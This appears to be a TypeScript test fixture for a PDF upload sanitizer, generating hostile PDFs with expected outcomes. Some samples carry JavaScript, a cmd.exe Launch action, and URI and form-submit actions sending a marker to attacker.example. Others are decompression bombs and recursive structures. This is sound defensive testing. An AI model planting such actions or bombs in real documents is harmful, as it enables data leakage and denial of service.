import { deflateSync } from 'node:zlib';
import { all, ascii, bomb, photo, times, type Hostile } from './files-made';
import { flate, onePage, pdfOf, streamOf } from './pdf-of';
import { zipOf } from './files-others';

const text = 'page';
const range = (n: number): number[] => Array.from({ length: n }, (_, i) => i);
/** What must not be found in what is kept. */
export const SECRET = 'SECRET-OF-THE-FILE';

const withAction = (
  title: string,
  action: string,
  more: Record<number, string | Buffer> = {},
): Hostile => ({
  title,
  name: '方案.pdf',
  make: () =>
    onePage(text, {
      catalog: `/OpenAction 10 0 R /AA << /WC 10 0 R >>`,
      page: '/AA << /O 10 0 R >> /Annots [11 0 R]',
      more: {
        10: action,
        11: `<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 10 0 R /AA << /E 10 0 R >> >>`,
        ...more,
      },
    }),
  answer: 'taken',
});

const link = '(\\\\\\\\attacker.example\\\\share\\\\' + SECRET + ')';

/** PDFs that would run, send, fetch or carry something: taken, without it. */
export const active: Hostile[] = [
  withAction('JavaScript on opening', `<< /S /JavaScript /JS (app.alert\\('${SECRET}'\\)) >>`),
  withAction(
    'JavaScript spelled with escapes',
    `<< /#53 /Java#53cript /J#53 (app.alert\\('${SECRET}'\\)) >>`,
  ),
  withAction(
    'a programme to launch',
    `<< /S /Launch /F ${link} /Win << /F (cmd.exe) /P (${SECRET}) >> >>`,
  ),
  withAction('an address to open', `<< /S /URI /URI (https://attacker.example/${SECRET}) >>`),
  withAction('a page in another file on a foreign share', `<< /S /GoToR /F ${link} /D [0 /Fit] >>`),
  withAction(
    'a page in an embedded file',
    `<< /S /GoToE /F ${link} /T << /R /C /N (${SECRET}) >> >>`,
  ),
  withAction(
    'a form to submit',
    `<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/${SECRET}) >> >>`,
  ),
  withAction('data to import', `<< /S /ImportData /F ${link} >>`),
  withAction('a rendition', `<< /S /Rendition /R 12 0 R /OP 0 /JS (${SECRET}) >>`, {
    12: `<< /S /MR /C << /S /MCD /D << /F ${link} >> >> >>`,
  }),
  withAction('a thread in another file', `<< /S /Thread /F ${link} /D 0 >>`),
  withAction('a sound', `<< /S /Sound /Sound 12 0 R >>`, {
    12: streamOf(`/Type /Sound /R 8000 /F ${link}`, SECRET),
  }),
  withAction('a film', `<< /S /Movie /T (${SECRET}) >>`),
  withAction('actions that lead to each other', `<< /S /URI /URI (${SECRET}) /Next 10 0 R >>`),
  {
    title: 'a film that plays on the page',
    name: '方案.pdf',
    make: () =>
      onePage(text, {
        page: '/Annots [10 0 R 11 0 R 12 0 R]',
        more: {
          10: `<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << /Names [(${SECRET}) 13 0 R] >> >> >>`,
          11: `<< /Subtype /Movie /Rect [0 0 9 9] /Movie << /F ${link} >> >>`,
          12: `<< /Subtype /3D /Rect [0 0 9 9] /3DD 14 0 R >>`,
          13: `<< /Type /Filespec /F (${SECRET}) /EF << /F 14 0 R >> >>`,
          14: streamOf('/Type /3D /Subtype /U3D', SECRET),
        },
      }),
    answer: 'taken',
  },
  {
    title: 'a form of XFA beside its fields',
    name: '方案.pdf',
    make: () =>
      onePage(text, {
        catalog: '/AcroForm << /Fields [11 0 R] /XFA 10 0 R >>',
        more: {
          10: streamOf('', `<xdp:xdp><script>${SECRET}</script></xdp:xdp>`),
          11: `<< /FT /Tx /T (a) >>`,
        },
      }),
    answer: 'taken',
  },
  {
    title: 'a form that is only XFA',
    name: '方案.pdf',
    make: () =>
      onePage('Please wait', {
        catalog: '/NeedsRendering true /AcroForm << /Fields [] /XFA 10 0 R >>',
        more: { 10: streamOf('', SECRET) },
      }),
    answer: 'file_form_open',
  },
  {
    title: 'a field that says more than it shows',
    name: '方案.pdf',
    make: () =>
      onePage(text, {
        catalog: '/AcroForm << /Fields [10 0 R] /NeedAppearances true >>',
        page: '/Annots [10 0 R]',
        more: { 10: `<< /Subtype /Widget /FT /Tx /T (sum) /V (1000000) /Rect [10 10 90 30] >>` },
      }),
    answer: 'file_form_open',
  },
  {
    title: 'a folder of other documents',
    name: '方案.pdf',
    make: () =>
      onePage('open this in another reader', {
        catalog:
          '/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(a.pdf) 10 0 R] >> >>',
        more: {
          10: `<< /Type /Filespec /F (a.pdf) /EF << /F 11 0 R >> >>`,
          11: streamOf('/Type /EmbeddedFile', SECRET),
        },
      }),
    answer: 'file_not_allowed',
  },
  {
    title: 'files attached in four ways',
    name: '方案.pdf',
    make: () =>
      onePage(text, {
        catalog: `/Names << /EmbeddedFiles << /Names [(${SECRET}) 10 0 R] >> /JavaScript << /Names [(x) << /S /JavaScript /JS (${SECRET}) >>] >> >> /AF [10 0 R]`,
        page: '/AF [10 0 R] /Annots [12 0 R]',
        more: {
          10: `<< /Type /Filespec /F (${SECRET}) /EF << /F 11 0 R >> >>`,
          11: streamOf('/Type /EmbeddedFile', all(ascii(SECRET), zipOf('x.exe', ascii('MZ')))),
          12: `<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 10 0 R /Contents (${SECRET}) >>`,
        },
      }),
    answer: 'taken',
  },
  {
    title: 'a picture that lies on a foreign share',
    name: '方案.pdf',
    make: () =>
      onePage(text, {
        page: '/Resources << /Font << /F1 4 0 R >> /XObject << /X 10 0 R /Y 11 0 R /Z 12 0 R >> >>',
        more: {
          10: streamOf(
            `/Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F ${link} /FFilter /FlateDecode`,
            SECRET,
          ),
          11: streamOf(
            `/Subtype /Form /BBox [0 0 9 9] /Ref << /F ${link} /Page 0 >> /OPI << /2.0 << /F ${link} >> >> /PieceInfo << /X << /Private (${SECRET}) >> >>`,
            '',
          ),
          12: streamOf('/Subtype /PS', `% ${SECRET}`),
        },
      }),
    answer: 'taken',
  },
  {
    title: 'everything an author leaves behind',
    name: '方案.pdf',
    make: () =>
      onePage(text, {
        catalog: '/Metadata 11 0 R /PieceInfo << /X << /Private 12 0 R >> >> /Lang (zh)',
        page: `/Metadata 11 0 R /Thumb 13 0 R /PieceInfo << /X << /Private (${SECRET}) >> >> /LastModified (D:${SECRET})`,
        trailer: '/Root 1 0 R /Info 10 0 R',
        more: {
          10: `<< /Author (${SECRET}) /Title <${Buffer.from(SECRET).toString('hex')}> /Company (${SECRET}) >>`,
          11: streamOf('/Type /Metadata /Subtype /XML', `<x:xmpmeta>${SECRET}</x:xmpmeta>`),
          12: flate('', SECRET),
          13: streamOf('/Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8', SECRET),
          14: `(${SECRET} that nothing refers to)`,
        },
      }),
    answer: 'taken',
  },
  {
    title: 'an older version beneath the newest',
    name: '方案.pdf',
    make: () => {
      const old = onePage(SECRET);
      return all(
        old,
        ascii('5 0 obj\n'),
        streamOf('', `BT /F1 12 Tf 72 500 Td (${text}) Tj ET`),
        ascii(
          `\nendobj\nxref\n5 1\n${String(old.length).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev ${old.lastIndexOf('xref\n0')} >>\nstartxref\n${old.length + 100}\n%%EOF\n`,
        ),
      );
    },
    answer: 'taken',
  },
  {
    title: 'a page and a programme before and behind it',
    name: '方案.pdf',
    make: () =>
      all(
        ascii('<!-- '),
        onePage(text),
        ascii(`--><html><script>${SECRET}</script></html>`),
        zipOf('a.exe', ascii(SECRET)),
      ),
    answer: 'taken',
  },
  {
    title: 'a programme behind its end',
    name: '方案.pdf',
    make: () =>
      all(onePage(text), ascii(`<script>${SECRET}</script>`), zipOf('a.exe', ascii(SECRET))),
    answer: 'taken',
  },
  {
    title: 'a photograph by the name of a plan',
    name: '方案.pdf',
    make: () => photo('photo.jpg'),
    answer: 'taken',
  },
  {
    title: 'a plan by the name of a photograph',
    name: '照片.jpg',
    make: () => onePage(text),
    answer: 'taken',
  },
  {
    title: 'a plan by the name of a signature',
    name: '签名.png',
    use: 'signature',
    make: () => onePage(text),
    answer: 'file_not_allowed',
  },
];

const nested = (open: string, close: string, depth: number): Buffer =>
  pdfOf({
    1: '<< /Type /Catalog /Pages 2 0 R /X 10 0 R >>',
    2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
    10: open.repeat(depth) + close.repeat(depth),
  });
const packedObjects = (data: Buffer, dict = '/N 1 /First 4', filter = '/FlateDecode'): Buffer =>
  onePage(text, {
    more: {
      10: all(
        ascii(`<< /Type /ObjStm ${dict} /Filter ${filter} /Length ${data.length} >>\nstream\n`),
        data,
        ascii('\nendstream'),
      ),
    },
  });
const drawing = (dict: string, data: Uint8Array | string): Buffer =>
  onePage(text, {
    page: '/Resources << /Font << /F1 4 0 R >> /XObject << /X 10 0 R >> >>',
    more: { 10: streamOf(dict, data) },
  });

/** PDFs that would keep a reader busy or fill its memory. */
export const heavy: Hostile[] = [
  {
    title: 'half a million objects',
    name: '方案.pdf',
    make: () =>
      all(
        ascii('%PDF-1.7\n'),
        Buffer.concat(range(500_000).map((i) => ascii(`${i + 10} 0 obj 0 endobj\n`))),
        onePage(text),
      ),
    answer: 'file_too_complex',
  },
  {
    title: '50,000 names in one dictionary',
    name: '方案.pdf',
    make: () =>
      onePage(text, {
        catalog: range(50_000)
          .map((i) => `/k${i} 0`)
          .join(' '),
      }),
    answer: 'taken',
  },
  {
    title: 'a hundred filters around a page',
    name: '方案.pdf',
    make: () =>
      drawing(`/Subtype /Form /BBox [0 0 9 9] /Filter [${'/ASCIIHexDecode '.repeat(100)}]`, '00>'),
    answer: 'file_too_complex',
  },
  {
    title: 'a hundred filters around packed objects',
    name: '方案.pdf',
    make: () => {
      let data = deflateSync(Buffer.alloc(1000));
      for (let i = 0; i < 99; i += 1) data = deflateSync(data);
      return packedObjects(data, '/N 1 /First 4', `[${'/FlateDecode '.repeat(100)}]`);
    },
    answer: 'taken',
  },
  {
    title: 'packed objects that unpack to half a gigabyte',
    name: '方案.pdf',
    make: () => packedObjects(bomb(512)),
    answer: 'file_too_complex',
  },
  {
    title: 'packed objects, half a gigabyte twice packed',
    name: '方案.pdf',
    make: () =>
      packedObjects(deflateSync(bomb(512)), '/N 1 /First 4', '[/FlateDecode /FlateDecode]'),
    answer: 'file_too_complex',
  },
  {
    title: 'packed objects that announce a thousand million',
    name: '方案.pdf',
    make: () => packedObjects(deflateSync(ascii('1 0 2 0 3 0')), '/N 1000000000 /First 4'),
    answer: 'file_too_complex',
  },
  {
    title: 'a table that announces two thousand million',
    name: '方案.pdf',
    make: () =>
      onePage(text, {
        more: {
          10: flate(
            '/Type /XRef /Size 2000000000 /W [1 2 1] /Index [0 2000000000] /Root 1 0 R',
            Buffer.alloc(100),
          ),
        },
      }),
    answer: 'file_too_complex',
  },
  {
    title: 'tables that lead to each other',
    name: '方案.pdf',
    make: () => {
      const b = onePage(text);
      const at = b.lastIndexOf('xref\n0');
      return all(
        b,
        ascii(
          `xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Prev ${at} >>\nstartxref\n${b.length}\n%%EOF\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Prev ${b.length} >>\nstartxref\n${at}\n%%EOF\n`,
        ),
      );
    },
    answer: 'taken',
  },
  {
    title: 'a page deflated a thousand to one',
    name: '方案.pdf',
    make: () => drawing('/Subtype /Form /BBox [0 0 9 9] /Filter /FlateDecode', bomb(512, 32)),
    answer: 'file_too_complex',
  },
  {
    title: 'many drawings that unpack to 100 MB each',
    name: '方案.pdf',
    make: () => {
      const one = bomb(100, 32);
      return onePage(text, {
        page: `/Resources << /XObject << ${range(12)
          .map((i) => `/X${i} ${10 + i} 0 R`)
          .join(' ')} >> >>`,
        more: Object.fromEntries(
          range(12).map((i) => [
            10 + i,
            streamOf('/Subtype /Form /BBox [0 0 9 9] /Filter /FlateDecode', one),
          ]),
        ),
      });
    },
    answer: 'file_too_complex',
  },
  {
    title: 'a run of one byte, sixty thousand to one',
    name: '方案.pdf',
    make: () =>
      drawing(
        '/Subtype /Form /BBox [0 0 9 9] /Filter [/FlateDecode /RunLengthDecode]',
        deflateSync(times(8 << 20, Buffer.from([129, 32]))),
      ),
    answer: 'file_too_complex',
  },
  {
    title: 'pages that are each other’s parents',
    name: '方案.pdf',
    make: () =>
      pdfOf({
        1: '<< /Type /Catalog /Pages 2 0 R >>',
        2: '<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 /Parent 3 0 R >>',
        3: '<< /Type /Pages /Kids [2 0 R 4 0 R] /Parent 2 0 R /Count 9 >>',
        4: '<< /Type /Page /Parent 3 0 R /MediaBox [0 0 9 9] >>',
      }),
    answer: 'taken',
  },
  {
    title: 'a million times the same page',
    name: '方案.pdf',
    make: () =>
      pdfOf({
        1: '<< /Type /Catalog /Pages 2 0 R >>',
        2: `<< /Type /Pages /Count 1000000 /Kids [${'3 0 R '.repeat(1_000_000)}] >>`,
        3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
      }),
    answer: 'file_too_complex',
  },
  {
    title: 'a tree of pages two to the thirtieth',
    name: '方案.pdf',
    make: () =>
      pdfOf({
        1: '<< /Type /Catalog /Pages 2 0 R >>',
        ...Object.fromEntries(
          range(30).map((i) => [i + 2, `<< /Type /Pages /Kids [${i + 3} 0 R ${i + 3} 0 R] >>`]),
        ),
        32: '<< /Type /Page /MediaBox [0 0 9 9] >>',
      }),
    answer: 'file_too_complex',
  },
  {
    title: 'a tree of pages 10,000 deep',
    name: '方案.pdf',
    make: () =>
      pdfOf({
        1: '<< /Type /Catalog /Pages 2 0 R >>',
        ...Object.fromEntries(
          range(10_000).map((i) => [i + 2, `<< /Type /Pages /Kids [${i + 3} 0 R] >>`]),
        ),
        10_002: '<< /Type /Page /MediaBox [0 0 9 9] >>',
      }),
    answer: 'file_too_complex',
  },
  {
    title: 'a page as large as a country',
    name: '方案.pdf',
    make: () => onePage(text, { page: '/MediaBox [-1e30 -1e30 1e30 1e30]' }),
    answer: 'file_broken',
  },
  {
    title: 'a page of no size',
    name: '方案.pdf',
    make: () => onePage(text, { page: '/MediaBox [0 0 0 0]' }),
    answer: 'file_broken',
  },
  {
    title: 'lists 500,000 deep',
    name: '方案.pdf',
    make: () => nested('[', ']', 500_000),
    answer: 'taken',
  },
  {
    title: 'dictionaries 200,000 deep',
    name: '方案.pdf',
    make: () => nested('<</a', '>>', 200_000),
    answer: 'taken',
  },
  {
    title: 'a text that is never closed',
    name: '方案.pdf',
    make: () => all(ascii('%PDF-1.7\n1 0 obj ('), Buffer.alloc(5 << 20, 'a')),
    answer: 'file_broken',
  },
  {
    title: 'fifty thousand objects that are never closed',
    name: '方案.pdf',
    make: () => all(ascii('%PDF-1.7\n'), times(50_000, ascii('1 0 obj [ (x) \n'))),
    answer: 'file_broken',
  },
  {
    title: 'ten megabytes of remarks',
    name: '方案.pdf',
    make: () =>
      all(ascii('%PDF-1.7\n'), times(500_000, ascii('% remark 1 0 obj\n')), onePage(text)),
    answer: 'file_too_complex',
  },
  {
    title: 'a drawing that draws itself',
    name: '方案.pdf',
    make: () =>
      onePage(text, {
        page: '/Resources << /XObject << /X 10 0 R >> >>',
        more: {
          10: streamOf(
            '/Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 10 0 R /Y 11 0 R >> >>',
            '/X Do /Y Do',
          ),
          11: streamOf(
            '/Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 10 0 R >> /ExtGState << /G << /SMask << /S /Alpha /G 11 0 R >> >> >> >>',
            '/X Do',
          ),
        },
      }),
    answer: 'taken',
  },
  {
    title: 'drawings within drawings, 20,000 deep',
    name: '方案.pdf',
    make: () =>
      onePage(text, {
        page: '/Resources << /XObject << /X 10 0 R >> >>',
        more: Object.fromEntries(
          range(20_000).map((i) => [
            10 + i,
            streamOf(
              `/Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X ${11 + i} 0 R >> >>`,
              '/X Do',
            ),
          ]),
        ),
      }),
    answer: 'file_too_complex',
  },
  {
    title: 'colours that are made of themselves',
    name: '方案.pdf',
    make: () =>
      onePage(text, {
        page: '/Resources << /ColorSpace << /C 10 0 R >> >>',
        more: { 10: '[/Indexed 10 0 R 1 <000000>]' },
      }),
    answer: 'taken',
  },
  {
    title: 'functions that are made of themselves',
    name: '方案.pdf',
    make: () =>
      onePage(text, {
        page: '/Resources << /ExtGState << /G << /TR 10 0 R >> >> >>',
        more: {
          10: '<< /FunctionType 3 /Domain [0 1] /Functions [10 0 R 10 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>',
        },
      }),
    answer: 'taken',
  },
  {
    title: 'fields that are each other’s parents',
    name: '方案.pdf',
    make: () =>
      onePage(text, {
        page: '/Annots [10 0 R]',
        more: {
          10: '<< /Subtype /Widget /Rect [0 0 9 9] /Parent 11 0 R >>',
          11: '<< /Parent 10 0 R >>',
        },
      }),
    answer: 'taken',
  },
  {
    title: '100,000 annotations on a page',
    name: '方案.pdf',
    make: () =>
      onePage(text, {
        page: `/Annots [${'10 0 R '.repeat(100_000)}]`,
        more: {
          10: '<< /Subtype /Stamp /Rect [0 0 9 9] /AP << /N 11 0 R >> >>',
          11: streamOf('/Subtype /Form /BBox [0 0 9 9]', ''),
        },
      }),
    answer: 'file_too_complex',
  },
  {
    title: 'a picture of 100,000 × 100,000',
    name: '方案.pdf',
    make: () =>
      drawing(
        '/Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode',
        deflateSync(Buffer.alloc(1000)),
      ),
    answer: 'file_too_complex',
  },
  {
    title: 'a fax of 60,000 × 60,000',
    name: '方案.pdf',
    make: () =>
      drawing(
        '/Subtype /Image /Width 60000 /Height 60000 /ImageMask true /BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 60000 /Rows 60000 >>',
        Buffer.alloc(100, 0xff),
      ),
    answer: 'file_too_complex',
  },
  {
    title: 'no pages',
    name: '方案.pdf',
    make: () =>
      pdfOf({ 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: '<< /Type /Pages /Kids [] /Count 0 >>' }),
    answer: 'file_broken',
  },
  {
    title: 'no catalog',
    name: '方案.pdf',
    make: () => ascii('%PDF-1.7\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n'),
    answer: 'file_broken',
  },
  {
    title: 'half of a document',
    name: '方案.pdf',
    make: () => onePage(text).subarray(0, 100),
    answer: 'file_broken',
  },
  {
    title: 'a header and nothing else',
    name: '方案.pdf',
    make: () => ascii('%PDF-1.7\n%%EOF'),
    answer: 'file_broken',
  },
  {
    title: 'locked by nonsense',
    name: '方案.pdf',
    make: () =>
      onePage(text, {
        trailer:
          '/Root 1 0 R /ID [<00> <00>] /Encrypt << /Filter /Standard /V 99 /R 99 /O (x) /U (y) /P -1 >>',
      }),
    answer: 'file_broken',
  },
];
